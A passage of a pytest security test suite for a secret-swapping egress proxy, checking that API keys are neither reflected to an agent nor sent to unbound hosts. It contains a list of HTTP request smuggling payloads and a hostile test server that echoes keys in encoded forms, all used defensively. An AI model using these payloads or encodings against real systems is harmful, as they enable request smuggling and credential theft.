    s = tls_to(rt, "api.openai.com")
    reply = raw_request(
        s,
        f"GET {target} HTTP/1.1\r\nHost: api.openai.com\r\n{'Authorization: ' + bearer(API)}\r\nConnection: close\r\n\r\n".encode(),
    )
    echo = upstreams["echo"].requests[before["echo"] :]
    api = upstreams["api"].requests[before["api"] :]
    assert not echo
    if target.startswith("//"):  # origin-form that looks like a network path: a path on the tunnel's host
        assert reply.status == 200 and api
    else:
        assert reply.status in (400, 403) and not api


def test_rt_absolute_form_with_same_authority_is_forwarded_in_origin_form(
    rt: ProxyProcess, upstreams: dict[str, Seen]
) -> None:
    s = tls_to(rt, "api.openai.com")
    reply = raw_request(
        s,
        f"GET HTTPS://API.OPENAI.COM:443/v1/abs?q=1 HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: {bearer(API)}\r\nConnection: close\r\n\r\n".encode(),
    )
    assert reply.status == 200
    seen = upstreams["api"].requests[-1]
    assert seen["path"] == "/v1/abs?q=1" and seen["headers"]["authorization"] == f"Bearer {API.real}"


def test_rt_plain_proxy_connection_serves_one_authority(
    make_proxy: Callable[..., ProxyProcess], rt: ProxyProcess, hostile_plain: HostileServer, upstreams: dict[str, Seen]
) -> None:
    """README: "one client connection serves one authority". A plain-HTTP proxy connection
    (absolute-form, no CONNECT) that names a second host on the same keep-alive connection."""
    before = len(hostile_plain.requests)
    with socket.create_connection(("127.0.0.1", rt.port), timeout=10) as s:
        s.sendall(b"GET http://api.openai.com/v1/one HTTP/1.1\r\nHost: api.openai.com\r\n\r\n")
        reader = s.makefile("rb")
        status, headers = read_head(reader)
        read_body(reader, headers)
        s.sendall(
            f"GET http://{HOSTILE_NAME}/two HTTP/1.1\r\nHost: {HOSTILE_NAME}\r\nConnection: close\r\n\r\n".encode()
        )
        second = reader.read()
    assert status == 200
    assert len(hostile_plain.requests) == before, "a second authority was served on the same connection"
    assert b"authority_mismatch" in second or second == b""


# == 4. Fail closed: smuggling, framing, pipelining ==============================================

H = "Host: api.openai.com\r\n"
SMUGGLED = "GET /smuggled HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Bearer {ph}\r\n\r\n"


@pytest.mark.parametrize(
    "payload",
    [
        f"POST /v1/a HTTP/1.1\r\n{H}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
        f"POST /v1/a HTTP/1.1\r\n{H}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
        f"POST /v1/a HTTP/1.1\r\n{H}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + SMUGGLED,
        f"POST /v1/a HTTP/1.1\r\n{H}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + SMUGGLED,
        f"POST /v1/a HTTP/1.1\r\n{H}Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
        f"POST /v1/a HTTP/1.1\r\n{H}Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
        f"POST /v1/a HTTP/1.0\r\n{H}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
        f"POST /v1/a HTTP/1.1\r\n{H}Content-Length: 5, 5\r\n\r\nhello" + SMUGGLED,
        f"POST /v1/a HTTP/1.1\r\n{H}Content-Length: 5\r\nContent-Length: 5\r\n\r\nhello" + SMUGGLED,
        f"POST /v1/a HTTP/1.1\r\n{H}Content-Length: 0\r\nContent-Length: 5\r\n\r\nhello" + SMUGGLED,
        f"POST /v1/a HTTP/1.1\r\n{H}Content-Length: +5\r\n\r\nhello" + SMUGGLED,
        f"POST /v1/a HTTP/1.1\r\n{H}Content-Length: 0x5\r\n\r\nhello" + SMUGGLED,
        f"POST /v1/a HTTP/1.1\r\n{H}Content-Length: \u00b2\r\n\r\nhello" + SMUGGLED,
        f"POST /v1/a HTTP/1.1\r\n{H}Content-Length: 99999999999999999999\r\n\r\nhello" + SMUGGLED,
        f"POST /v1/a HTTP/1.1\r\n{H}Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff5\r\nhello\r\n0\r\n\r\n" + SMUGGLED,
        f"POST /v1/a HTTP/1.1\r\n{H}Transfer-Encoding: chunked\r\n\r\n5\nhello\r\n0\r\n\r\n" + SMUGGLED,
        f"POST /v1/a HTTP/1.1\r\n{H}Transfer-Encoding: chunked\r\n\r\n5\r\nhelloXX0\r\n\r\n" + SMUGGLED,
        f"POST /v1/a HTTP/1.1\r\n{H}Transfer-Encoding: chunked\r\n\r\n-5\r\nhello\r\n0\r\n\r\n" + SMUGGLED,
        "GET /v1/a HTTP/1.1\nHost: api.openai.com\n\n" + SMUGGLED,
        f"GET /v1/a HTTP/1.1\r\n{H}X-A: a\rb\r\n\r\n" + SMUGGLED,
        f"GET /v1/a HTTP/1.1\r\n{H}X-A: a\x00b\r\n\r\n" + SMUGGLED,
        f"GET /v1/a HTTP/1.1\r\n{H}X A: b\r\n\r\n" + SMUGGLED,
        f"GET /v1/a HTTP/1.1\r\n{H}X-A: a\r\n b\r\n\r\n" + SMUGGLED,
        f"GET /v1/a HTTP/1.1 \r\n{H}\r\n" + SMUGGLED,
        f"GET /v1/a HTTP/2.0\r\n{H}\r\n" + SMUGGLED,
        f"GET /v1/a HTTP/0.9\r\n{H}\r\n" + SMUGGLED,
        "GET /v1/a\r\n\r\n" + SMUGGLED,
        "\r\n\r\nGET /v1/a HTTP/1.1\r\nHost: echo.example.com\r\n\r\n" + SMUGGLED,
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SMUGGLED,
        "CONNECT echo.example.com:443 HTTP/1.1\r\nHost: echo.example.com:443\r\n\r\n" + SMUGGLED,
        f"GET /v1/a HTTP/1.1\r\n{H}Upgrade: websocket, h2c\r\nConnection: Upgrade\r\n\r\n" + SMUGGLED,
        f"GET /v1/a HTTP/1.1\r\n{H}Upgrade: websocket\r\nConnection: keep-alive\r\n\r\n" + SMUGGLED,
        "OPTIONS * HTTP/1.1\r\nHost: echo.example.com\r\n\r\n" + SMUGGLED,
    ],
    ids=[
        "cl-te", "te-space-colon", "te-twice", "te-list", "te-obs-fold", "te-vtab", "te-http10", "cl-list", "cl-twice", "cl-two-values", "cl-plus",
        "cl-hex", "cl-superscript", "cl-huge", "chunk-size-overflow", "chunk-bare-lf", "chunk-missing-crlf",
        "chunk-negative", "bare-lf-head", "bare-cr-value", "nul-value", "space-in-name", "obs-fold", "trailing-space-version",
        "http2-version", "http09-version", "no-version", "leading-crlf-other-host",
        "h2-preface", "connect-in-tunnel", "upgrade-list", "upgrade-without-connection", "asterisk-other-host",
    ],
)  # fmt: skip
def test_rt_smuggling_shapes_never_reach_the_upstream_as_a_second_request(
    rt: ProxyProcess, upstreams: dict[str, Seen], payload: str
) -> None:
    before = len(upstreams["api"].requests)
    s = tls_to(rt, "api.openai.com")
    reply = raw_request(s, payload.format(ph=API.placeholder).encode("latin-1"), timeout=5)
    seen = upstreams["api"].requests[before:]
    assert not [r for r in seen if r["path"].startswith("/smuggled")], "a smuggled request reached the upstream"
    assert reply.status in (0, 200, 400, 403, 413, 417), reply.status
    assert not [r for r in seen if r["method"] == "POST" and r["body"]], "a body the proxy refused to frame went on"


def test_rt_get_body_holding_a_request_goes_upstream_as_a_body_only(
    rt: ProxyProcess, upstreams: dict[str, Seen]
) -> None:
    inner = SMUGGLED.format(ph=API.placeholder)
    before = len(upstreams["api"].requests)
    s = tls_to(rt, "api.openai.com")
    reply = raw_request(
        s, f"GET /v1/outer HTTP/1.1\r\n{H}Content-Length: {len(inner)}\r\nConnection: close\r\n\r\n{inner}".encode()
    )
    seen = upstreams["api"].requests[before:]
    assert reply.status == 200 and [r["path"] for r in seen] == ["/v1/outer"] and seen[0]["body"] == inner


def test_rt_pipelined_requests_are_each_judged_and_a_refusal_ends_the_connection(
    rt: ProxyProcess, upstreams: dict[str, Seen]
) -> None:
    before = len(upstreams["api"].requests)
    s = tls_to(rt, "api.openai.com")
    s.sendall(
        f"GET /v1/p1 HTTP/1.1\r\n{H}Authorization: {bearer(API)}\r\n\r\n"
        f"GET /v1/p2 HTTP/1.1\r\nHost: echo.example.com\r\nAuthorization: {bearer(API)}\r\n\r\n"
        f"GET /v1/p3 HTTP/1.1\r\n{H}Authorization: {bearer(API)}\r\n\r\n".encode()
    )
    out = recv_all(s, 5)
    paths = [r["path"] for r in upstreams["api"].requests[before:]]
    assert paths == ["/v1/p1"]
    assert out.count(b"HTTP/1.1 200") == 1 and b"authority_mismatch" in out


def test_rt_http10_keep_alive_gets_a_delimited_scrubbed_response(rt: ProxyProcess, hostile: HostileServer) -> None:
    """An HTTP/1.0 agent asking for keep-alive, a swapped request, a streamed (chunked) reflection:
    the proxy answers close-delimited (1.0 has no chunked), so it must close after the body, or the
    agent can never tell where the response ends."""

    @hostile.on("/rt/http10")
    async def _(req: Request, w: Wire) -> None:
        await w.send(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + _chunks(f"key {req.token}".encode()))

    s = tls_to(rt, HOSTILE_NAME)
    s.sendall(
        f"GET /rt/http10 HTTP/1.0\r\nHost: {HOSTILE_NAME}\r\nAuthorization: {bearer()}\r\nConnection: keep-alive\r\n\r\n".encode()
    )
    s.settimeout(5)
    buf, closed = b"", False
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                closed = True
                break
            buf += chunk
    except TimeoutError:
        pass
    head, _, body = buf.partition(b"\r\n\r\n")
    assert not leaked(buf) and HOST.placeholder.encode() in body
    delimited = b"content-length:" in head.lower()
    assert delimited or closed, "a close-delimited body on a connection the proxy keeps open: the agent hangs"


# == 3. Hot reload and rotation: the value swapped and the values scrubbed change together ========

FILLERS = 240  # a big policy (the loader's cap is 256 secrets), long values: its finders take a while to rebuild


def _big_policy(extra: str = "") -> str:
    fill = "".join(
        f"    - name: fill{i}\n      placeholder: fill-PH-{N}-{i:05d}\n      source: {{env: RT_FILL_{i}}}\n"
        f"      hosts: [echo.example.com]\n"
        for i in range(FILLERS)
    )
    return POLICY + fill + extra


def _reflect_loop(proxy: ProxyProcess, auth: str, stop: threading.Event, out: list[bytes]) -> None:
    while not stop.is_set():
        s = tls_to(proxy, HOSTILE_NAME)
        reader = s.makefile("rb")
        try:
            while not stop.is_set():
                s.sendall(f"GET /rt/reflect HTTP/1.1\r\nHost: {HOSTILE_NAME}\r\nAuthorization: {auth}\r\n\r\n".encode())
                _, headers = read_head(reader)
                out.append(read_body(reader, headers))
        except (OSError, IndexError, ValueError):
            pass  # (a refusal -- a secret a reload adds is unavailable until read -- closes the connection)
        finally:
            s.close()


@pytest.fixture(scope="module")
def reflect(hostile: HostileServer) -> None:
    @hostile.on("/rt/reflect")
    async def _(req: Request, w: Wire) -> None:
        body = f"key={req.token}".encode()
        await w.send(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))


ROT = Sec("rot", f"rt-PH-{N}-rot", "rtREALrotA" + secrets.token_hex(16), "")
LATE = Sec("late", f"rt-PH-{N}-late", "rtREALlate" + secrets.token_hex(16), "RT_LATE")


@pytest.fixture(scope="module")
def big(
    make_proxy: Callable[..., ProxyProcess], hostile: HostileServer, hostile_ca: tuple[trustme.CA, Path],
    reflect: None, tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[ProxyProcess]:  # fmt: skip
    """A proxy with a big policy, a file-sourced secret ("rot") it re-reads every second, and an
    environment that already holds the value of a secret ("late") a reload will add."""
    key = tmp_path_factory.mktemp("rot") / "key"
    key.write_text(ROT.real)
    rot = (
        f"    - name: {ROT.name}\n      placeholder: {ROT.placeholder}\n      source: {{file: {key}}}\n"
        f"      hosts: [{HOSTILE_NAME}]\n"
    )
    fill_env = {f"RT_FILL_{i}": f"fill-real-{i:05d}-{secrets.token_hex(1000)}" for i in range(FILLERS)}
    p = make_proxy(_big_policy(rot), "--upstream-ca", str(hostile_ca[1]), "--secret-refresh", "1",
                   env={**env(), **fill_env, LATE.env: LATE.real})  # fmt: skip
    p.rot_file = key  # type: ignore[attr-defined]
    p.rot_binding = rot  # type: ignore[attr-defined]
    yield p
    p.stop()  # it rebuilds big finders every second: not for the rest of the session


def _hammer(proxy: ProxyProcess, auth: str, until: Callable[[], bool], timeout: float = 90) -> list[bytes]:
    """Three clients asking for the reflection of ``auth`` until ``until()`` holds (then 0.5 s more),
    or ``timeout`` seconds (a rotation rebuilds the big policy's finders in steps between these
    requests: ~8 s on a slow 2-CPU machine, 20 s was once not enough there)."""
    stop, bodies = threading.Event(), []
    loops = [threading.Thread(target=_reflect_loop, args=(proxy, auth, stop, bodies)) for _ in range(3)]
    for t in loops:
        t.start()
    try:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline and not until():
            time.sleep(0.05)
        time.sleep(0.5)
    finally:
        stop.set()
        for t in loops:
            t.join(10)
    return bodies


def test_rt_a_rotated_secret_is_never_swapped_unscrubbed(big: ProxyProcess, hostile: HostileServer) -> None:
    """Rotation: the refresher stores the new value, then rebuilds the finders in steps. A request
    in between is swapped with the new value and scrubbed of the old one only."""
    new = "rtREALrotB" + secrets.token_hex(16)
    big.rot_file.write_text(new)  # type: ignore[attr-defined]
    bodies = _hammer(big, f"Bearer {ROT.placeholder}",
                     lambda: any(r.token == new for r in hostile.requests[-50:]))  # fmt: skip
    assert any(r.token == new for r in hostile.requests), "the rotation never took effect"
    leaks = [b for b in bodies if new.encode() in b]
    assert not leaks, f"{len(leaks)} of {len(bodies)} responses carried the rotated real value to the agent"


def test_rt_a_secret_added_by_a_hot_reload_is_never_swapped_unscrubbed(
    big: ProxyProcess, hostile: HostileServer
) -> None:
    """The reload loads the new secret into the store and switches the policy, then rebuilds the
    finders in steps. A request in between is swapped with the new value but scrubbed with the old
    finders, which do not know it."""
    binding = (
        f"    - name: {LATE.name}\n      placeholder: {LATE.placeholder}\n      source: {{env: {LATE.env}}}\n"
        f"      hosts: [{HOSTILE_NAME}]\n"
    )
    big.policy.write_text(_big_policy(big.rot_binding + binding))  # type: ignore[attr-defined]
    bodies = _hammer(big, f"Bearer {LATE.placeholder}", lambda: '"result": "success"' in big.stderr())
    assert '"result": "success"' in big.stderr() and len(bodies) > 20
    leaks = [b for b in bodies if LATE.real.encode() in b]
    assert not leaks, f"{len(leaks)} of {len(bodies)} responses carried the new secret's real value to the agent"


# == 3 (continued). Shapes a reflecting upstream really produces ==================================


def test_rt_value_split_across_ndjson_stream_lines_is_refused(rt: ProxyProcess, hostile: HostileServer) -> None:
    """Token streams are not only SSE: Ollama and others stream application/x-ndjson, one JSON
    object a line, and clients concatenate the "response" fields. A value across two lines."""

    @hostile.on("/rt/ndjson")
    async def _(req: Request, w: Wire) -> None:
        t = req.token
        await w.send(b"HTTP/1.1 200 OK\r\nContent-Type: application/x-ndjson\r\nTransfer-Encoding: chunked\r\n\r\n")
        for piece in ("Your key is ", t[:10], t[10:25], t[25:], "."):
            await w.send(_chunks(json.dumps({"response": piece, "done": False}).encode() + b"\n")[:-5], pause=0.02)
        await w.send(_chunks(json.dumps({"response": "", "done": True}).encode() + b"\n"))

    raw = fetch(rt, "/rt/ndjson")
    lines = [json.loads(ln) for ln in dechunk(raw).splitlines() if ln.strip()]
    text = "".join(d["response"] for d in lines)
    assert not leaked(text), "the client's concatenation of the stream holds the key"


def test_rt_uppercased_reflection_is_scrubbed(rt: ProxyProcess, hostile: HostileServer) -> None:
    """Lowercase forms are scrubbed; an upstream that upper-cases what it echoes (error codes, some
    gateways) gives away a hex-tailed key just the same."""

    @hostile.on("/rt/upper")
    async def _(req: Request, w: Wire) -> None:
        await w.send(_respond("", f"INVALID_KEY: {req.token.upper()}".encode()))

    raw = fetch(rt, "/rt/upper")
    assert HOST.real.upper().encode() not in raw


@pytest.mark.parametrize("safe", ["/", "/+", "+=/"], ids=["python-quote", "quote-plus-kept", "encodeURI-like"])
def test_rt_partially_percent_encoded_reflection_is_scrubbed(
    rt: ProxyProcess, hostile: HostileServer, safe: str
) -> None:
    """A value with reserved characters (base64 keys: '/', '+') reflected in a URL the way common
    libraries encode it: Python's quote() keeps '/', encodeURI keeps '+', '/', '='."""
    from urllib.parse import quote, unquote

    path = f"/rt/quote-{safe.encode().hex()}"

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        key = req.header("x-api-key")
        await w.send(_respond(f"Location: https://x.invalid/cb?key={quote(key, safe=safe)}\r\n", b"ok"))

    s = tls_to(rt, HOSTILE_NAME)
    s.sendall(get(path, f"X-Api-Key: {SLASH.placeholder}"))
    raw = recv_all(s)
    assert raw.startswith(b"HTTP/1.1")
    location = next((ln for ln in raw.decode().split("\r\n") if ln.lower().startswith("location:")), "")
    assert SLASH.real not in unquote(location), "the agent percent-decodes the Location and reads the key"


def test_rt_refused_reflection_in_a_close_delimited_body_does_not_look_complete(
    rt: ProxyProcess, hostile: HostileServer
) -> None:
    """After the head went out, a refused body must end in a cut connection (README), never in a
    clean chunked end the agent takes for the whole answer."""

    @hostile.on("/rt/close-escaped")
    async def _(req: Request, w: Wire) -> None:
        escaped = "".join(f"\\u{ord(c):04x}" for c in req.token)
        await w.send(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n\r\n", pause=0.05)
        await w.send(b'{"pad": "' + b"a" * 1000 + b'", ', pause=0.05)
        await w.send(f'"key": "{escaped}", "tail": "x"}}'.encode(), pause=0.05)
        w.keep = False

    before = rt.metric("sandgate_internal_errors_total", task="data_path")
    raw = fetch(rt, "/rt/close-escaped")
    assert not leaked(dechunk(raw).decode("unicode_escape", "replace"))
    assert not raw.endswith(b"0\r\n\r\n"), "the refused response was closed like a complete one"
    assert rt.metric("sandgate_internal_errors_total", task="data_path") == before, "a refusal counted as a bug"


def test_rt_refused_streamed_reflection_is_a_refusal_not_an_internal_error(
    rt: ProxyProcess, hostile: HostileServer
) -> None:
    """A value refused in a streamed (chunked) body: counted as a redaction, never as a data-path bug."""

    @hostile.on("/rt/chunked-escaped")
    async def _(req: Request, w: Wire) -> None:
        escaped = "".join(f"\\u{ord(c):04x}" for c in req.token)
        await w.send(
            b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + _chunks(f'{{"key": "{escaped}"}}'.encode())
        )

    before = rt.metric("sandgate_internal_errors_total", task="data_path")
    raw = fetch(rt, "/rt/chunked-escaped")
    assert not raw.endswith(b"0\r\n\r\n")
    assert rt.metric("sandgate_internal_errors_total", task="data_path") == before, "a refusal counted as a bug"


@pytest.mark.parametrize("status", [204, 304])
def test_rt_bodies_after_204_and_304_never_reach_the_agent(
    rt: ProxyProcess, hostile: HostileServer, status: int
) -> None:
    """A body after a 204/304 (or a whole second response hidden there) is not the agent's."""
    path = f"/rt/nobody-{status}"

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        hidden = f"HTTP/1.1 200 OK\r\nContent-Length: {len(req.token) + 4}\r\n\r\nkey={req.token}".encode()
        await w.send(f"HTTP/1.1 {status} X\r\nContent-Length: {len(hidden)}\r\n\r\n".encode() + hidden)

    s = tls_to(rt, HOSTILE_NAME)
    s.sendall(f"GET {path} HTTP/1.1\r\nHost: {HOSTILE_NAME}\r\nAuthorization: {bearer()}\r\n\r\n".encode())
    raw = recv_all(s, 3)
    assert raw.startswith(f"HTTP/1.1 {status}".encode())
    assert not leaked(raw)
    assert raw.count(b"HTTP/1.1 ") == 1, f"a second response reached the agent: {raw!r}"


def test_rt_head_response_with_a_body_carrying_the_key(rt: ProxyProcess, hostile: HostileServer) -> None:
    @hostile.on("/rt/head")
    async def _(req: Request, w: Wire) -> None:
        body = f"key={req.token}".encode()
        await w.send(f"HTTP/1.1 200 OK\r\nX-Key: {req.token}\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)

    s = tls_to(rt, HOSTILE_NAME)
    s.sendall(f"HEAD /rt/head HTTP/1.1\r\nHost: {HOSTILE_NAME}\r\nAuthorization: {bearer()}\r\n\r\n".encode())
    raw = recv_all(s, 3)
    assert raw.startswith(b"HTTP/1.1 200") and not leaked(raw)
    assert raw.endswith(b"\r\n\r\n"), "bytes after a HEAD response's head reached the agent"


# == 2. The real value and the placeholder going out ===============================================


@pytest.mark.parametrize(
    "shape",
    ["one-escape", "all-escaped-lower", "gzip-body", "base64-no-pad-offset", "query-plus"],
)
def test_rt_real_value_in_other_encodings_never_leaves(rt: ProxyProcess, hostile: HostileServer, shape: str) -> None:
    """secret_value_outbound, "any encoding": forms every URL decoder or HTTP server undoes."""
    from urllib.parse import quote

    v = API.real
    path, headers, body = f"/rt/out-{shape}", [], b""
    if shape == "one-escape":
        path += "?k=" + f"%{ord(v[0]):02X}" + v[1:]
    elif shape == "all-escaped-lower":
        path += "?k=" + "".join(f"%{ord(c):02x}" for c in v)
    elif shape == "gzip-body":
        body = gzip.compress(f'{{"k": "{v}"}}'.encode())
        headers = ["Content-Encoding: gzip", f"Content-Length: {len(body)}"]
    elif shape == "base64-no-pad-offset":
        headers = ["X-Blob: " + base64.b64encode(b"ab" + v.encode()).decode().rstrip("=")]
    else:
        path += "?k=" + quote(v).replace("-", "%2D")
    before = len(hostile.requests)
    s = tls_to(rt, HOSTILE_NAME)
    s.sendall(
        (
            "\r\n".join([f"POST {path} HTTP/1.1", f"Host: {HOSTILE_NAME}", *headers, "Connection: close"]) + "\r\n\r\n"
        ).encode()
        + body
    )
    reply = parse_http(recv_all(s).decode(errors="replace"))
    seen = hostile.requests[before:]
    decoded = [_undo(r) for r in seen]
    assert not [d for d in decoded if v in d], f"the upstream decoded the real value from {shape}"
    assert reply.reason == "secret_value_outbound"


def _undo(r: Request) -> str:
    from urllib.parse import unquote

    body = _gunzip(r.body) or r.body
    blob = r.header("x-blob")
    b64 = base64.b64decode(blob + "=" * (-len(blob) % 4)).decode("latin-1") if blob else ""
    return unquote(r.path) + body.decode("latin-1") + b64


@pytest.mark.parametrize(
    "where",
    ["query", "cookie", "json-body", "basic-user", "chunked-body-split", "expect-100-body", "x-api-key-dup"],
)
def test_rt_placeholder_to_an_unbound_host_is_refused_wherever_it_is(
    rt: ProxyProcess, hostile: HostileServer, where: str
) -> None:
    ph = API.placeholder
    before = len(hostile.requests)
    s = tls_to(rt, HOSTILE_NAME)
    head = [f"POST /rt/unbound-{where} HTTP/1.1", f"Host: {HOSTILE_NAME}", "Connection: close"]
    body = b""
    if where == "query":
        head[0] = f"GET /rt/unbound?x=1&k={ph} HTTP/1.1"
    elif where == "cookie":
        head.append(f"Cookie: a=1; k={ph}")
    elif where == "json-body":
        body = json.dumps({"k": ph}).encode()
        head.append(f"Content-Length: {len(body)}")
    elif where == "basic-user":
        head.append("Authorization: Basic " + base64.b64encode(f"{ph}:x".encode()).decode())
    elif where == "x-api-key-dup":
        head += [f"X-Api-Key: {HOST.placeholder}", f"X-Api-Key: {ph}"]
    elif where == "chunked-body-split":
        head.append("Transfer-Encoding: chunked")
        big = b"a" * 300_000 + ph.encode() + b"b" * 10
        cut = 300_000 + 7
        body = _chunks(big[:cut], big[cut:])
    else:
        body = b"k=" + ph.encode()
        head += ["Expect: 100-continue", f"Content-Length: {len(body)}"]
    s.sendall(("\r\n".join(head) + "\r\n\r\n").encode())
    if where == "expect-100-body":
        s.settimeout(5)
        first = s.recv(4096)
        assert first.startswith(b"HTTP/1.1 100") or b"secret_not_bound" in first
    s.sendall(body)
    out = recv_all(s)
    got = [r for r in hostile.requests[before:] if ph.encode() in r.raw_head + r.body]
    assert not got, "the placeholder reached an unbound host"
    assert b"secret_not_bound" in out or where == "chunked-body-split"


@pytest.mark.parametrize(
    ("auth", "swapped"),
    [
        ("Bearer {ph}", True), ("bEaReR {ph}", True), ("Bearer  {ph}", False), ("Bearer\t{ph}", False),
        ("Bearer {ph}, Basic eDp5", False), ("Token {ph}", False), ("{ph}", False),
        ("Bearer {ph} ", True),  # trailing OWS is not part of a field value (RFC 9110 5.5)
        ("Basic " + "{b64u}", True), ("basic " + "{b64p}", True), ("Basic " + "{b64both}", True),
    ],
    ids=["bearer", "mixed-case-scheme", "two-spaces", "tab", "two-schemes", "other-scheme", "bare", "trailing-space",
         "basic-user", "basic-password-lower-scheme", "basic-both"],
)  # fmt: skip
def test_rt_slot_templates_swap_exactly_and_only_there(
    rt: ProxyProcess, hostile: HostileServer, auth: str, swapped: bool
) -> None:
    ph = HOST.placeholder
    b64 = {k: base64.b64encode(v.encode()).decode() for k, v in
           {"b64u": f"{ph}:pw", "b64p": f"git:{ph}", "b64both": f"{ph}:{ph}"}.items()}  # fmt: skip
    value = auth.format(ph=ph, **b64)
    before = len(hostile.requests)
    reply = ask(rt, HOSTILE_NAME, get("/rt/slot", auth=value))
    assert reply.status == 200
    sent = hostile.requests[before].header("authorization")
    decoded = sent + (base64.b64decode(sent.split()[-1]).decode("latin-1") if sent.lower().startswith("basic") else "")
    assert (HOST.real in decoded) == swapped
    assert not leaked(reply.body + json.dumps(reply.headers))


def test_rt_query_swap_only_for_exact_values_and_never_to_another_host(
    rt: ProxyProcess, hostile: HostileServer, upstreams: dict[str, Seen]
) -> None:
    ph = QUERY.placeholder
    before = len(hostile.requests)
    ok = ask(rt, HOSTILE_NAME, get(f"/rt/q?a=1&key={ph}&b={ph}x&{ph}=k&c=%FF;d+e"))
    assert ok.status == 200
    path = hostile.requests[before].path
    assert f"key={QUERY.real}" in path and f"{QUERY.real}x" not in path and f"{QUERY.real}=" not in path
    assert path.endswith("&c=%FF;d+e")  # (the agent's other parameters as it sent them, not re-encoded)
    before_api = len(upstreams["api"].requests)
    other = ask(rt, "api.openai.com", get(f"/v1/q?key={ph}", host="api.openai.com"))
    assert other.status == 403 and other.reason == "secret_not_bound"
    assert len(upstreams["api"].requests) == before_api


def test_rt_plain_http_inside_a_connect_tunnel_never_carries_a_real_key(
    rt: ProxyProcess, upstreams: dict[str, Seen]
) -> None:
    """CONNECT api.openai.com:443, then plaintext HTTP instead of TLS: no swap without TLS."""
    before = len(upstreams["api"].requests)
    s = socket.create_connection(("127.0.0.1", rt.port), timeout=10)
    s.sendall(b"CONNECT api.openai.com:443 HTTP/1.1\r\nHost: api.openai.com:443\r\n\r\n")
    assert s.recv(4096).startswith(b"HTTP/1.1 200")
    reply = raw_request(
        s, f"GET /v1/plain HTTP/1.1\r\nHost: api.openai.com:443\r\nAuthorization: {bearer(API)}\r\n\r\n".encode()
    )
    assert reply.status == 403 and reply.reason == "secret_not_bound"
    assert all(API.real not in json.dumps(r) for r in upstreams["api"].requests[before:])


def test_rt_tls_straight_to_the_listener_is_closed(rt: ProxyProcess) -> None:
    """Regular mode expects a request line first; a ClientHello there is not HTTP."""
    ctx = ssl.create_default_context(cafile=str(rt.ca))
    with (
        socket.create_connection(("127.0.0.1", rt.port), timeout=10) as raw,
        pytest.raises((ssl.SSLError, ConnectionResetError, OSError)),
    ):
        ctx.wrap_socket(raw, server_hostname="api.openai.com")


def test_rt_pooled_upstream_connections_never_cross_names(rt: ProxyProcess, hostile: HostileServer) -> None:
    """Two allowed names on one IP: each request travels on a connection opened (and verified) for
    its own name, whichever client connection sent it."""
    before = len(hostile.requests)
    for name in (HOSTILE_NAME, HOSTILE2_NAME, HOSTILE_NAME, HOSTILE2_NAME):
        s = tls_to(rt, name)
        reader = s.makefile("rb")
        for _ in range(2):
            s.sendall(f"GET /rt/pool HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
            status, headers = read_head(reader)
            read_body(reader, headers)
            assert status == 200
        s.close()
    seen = hostile.requests[before:]
    assert len(seen) == 8
    assert all(r.sni == r.header("host") for r in seen), [(r.sni, r.header("host")) for r in seen]


# == 4. Limits at their boundaries; report mode; values the proxy must refuse to use ================

LIMITS = ["--max-header-bytes", "4096", "--max-request-body", "1000", "--max-connections", "4"]


@pytest.fixture(scope="module")
def tight(
    make_proxy: Callable[..., ProxyProcess], hostile: HostileServer, hostile_ca: tuple[trustme.CA, Path]
) -> ProxyProcess:
    return make_proxy(POLICY, "--upstream-ca", str(hostile_ca[1]), *LIMITS, env=env())


def _head_of_size(size: int) -> bytes:
    """A request head of exactly ``size`` bytes on the wire (request line to the blank line)."""
    base = f"GET /rt/limit HTTP/1.1\r\nHost: {HOSTILE_NAME}\r\nX-Pad: \r\nConnection: close\r\n\r\n"
    return base.replace("X-Pad: ", "X-Pad: " + "p" * (size - len(base))).encode()


@pytest.mark.parametrize(("size", "status"), [(4096, 200), (4097, 431)])
def test_rt_header_limit_holds_at_its_boundary(tight: ProxyProcess, size: int, status: int) -> None:
    head = _head_of_size(size)
    assert len(head) == size
    assert ask(tight, HOSTILE_NAME, head).status == status


@pytest.mark.parametrize(
    ("size", "chunked", "status"), [(1000, False, 200), (1001, False, 413), (1000, True, 200), (1001, True, 413)]
)
def test_rt_body_limit_holds_at_its_boundary(
    tight: ProxyProcess, hostile: HostileServer, size: int, chunked: bool, status: int
) -> None:
    before = len(hostile.requests)
    body = b"b" * size
    framing = "Transfer-Encoding: chunked" if chunked else f"Content-Length: {size}"
    wire = _chunks(body[:500], body[500:]) if chunked else body
    reply = ask(
        tight,
        HOSTILE_NAME,
        f"POST /rt/limit HTTP/1.1\r\nHost: {HOSTILE_NAME}\r\n{framing}\r\nConnection: close\r\n\r\n".encode() + wire,
    )
    assert reply.status in ((status, 0) if chunked and status == 413 else (status,))
    assert all(len(r.body) <= 1000 for r in hostile.requests[before:])


def test_rt_connection_flood_is_capped_and_the_proxy_recovers(tight: ProxyProcess) -> None:
    held = [socket.create_connection(("127.0.0.1", tight.port), timeout=10) for _ in range(4)]
    try:
        extra = [socket.create_connection(("127.0.0.1", tight.port), timeout=10) for _ in range(80)]
        for s in extra:
            with __import__("contextlib").suppress(OSError):
